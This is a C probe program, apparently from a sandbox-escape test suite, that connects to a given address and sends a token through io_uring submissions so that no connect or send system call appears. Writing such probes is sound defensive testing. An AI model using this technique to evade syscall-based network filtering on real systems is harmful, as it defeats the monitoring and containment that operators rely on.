/*
 * Connects and sends through an io_uring, where no system call names the operation.
 * usage: io_uring ADDRESS PORT
 */
#include "attack.h"

#include <linux/io_uring.h>
#include <sys/mman.h>

static int ring;
static struct io_uring_params params;
static unsigned char *queue, *results;
static struct io_uring_sqe *entries;

static int submit(const struct io_uring_sqe *sqe) {
    unsigned *tail = (unsigned *)(queue + params.sq_off.tail), *mask = (unsigned *)(queue + params.sq_off.ring_mask);
    unsigned *array = (unsigned *)(queue + params.sq_off.array), *head = (unsigned *)(results + params.cq_off.head);
    unsigned at = *tail & *mask;
    entries[at] = *sqe;
    array[at] = at;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    struct io_uring_cqe *done = (struct io_uring_cqe *)(results + params.cq_off.cqes);
    int result = done[*head & *(unsigned *)(results + params.cq_off.ring_mask)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

int main(int argc, char **argv) {
    if (argc != 3)
        cannot("usage: io_uring ADDRESS PORT");
    struct target t = target_of(argv[1], argv[2]);
    ring = (int)syscall(SYS_io_uring_setup, 4, &params);
    if (ring < 0)
        failed("io_uring_setup");
    queue = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    results = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    entries = mmap(NULL, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (queue == MAP_FAILED || results == MAP_FAILED || entries == MAP_FAILED) {
        /* the kernel wants the exact lengths */
        size_t sq = params.sq_off.array + params.sq_entries * sizeof(unsigned);
        size_t cq = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
        queue = mmap(NULL, sq, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
        results = mmap(NULL, cq, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
        if (queue == MAP_FAILED || results == MAP_FAILED || entries == MAP_FAILED)
            failed("mmap of the ring");
    }
    int fd = socket(t.family, SOCK_STREAM, 0);
    struct io_uring_sqe sqe = {.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&t.address, .off = t.length};
    int rc = submit(&sqe);
    if (rc < 0) {
        errno = -rc;
        failed("IORING_OP_CONNECT");
    }
    sqe = (struct io_uring_sqe){.opcode = IORING_OP_SEND, .fd = fd, .addr = (uintptr_t)TOKEN, .len = (unsigned)strlen(TOKEN)};
    rc = submit(&sqe);
    if (rc < 0) {
        errno = -rc;
        failed("IORING_OP_SEND");
    }
    reached("connected and sent through io_uring");
}
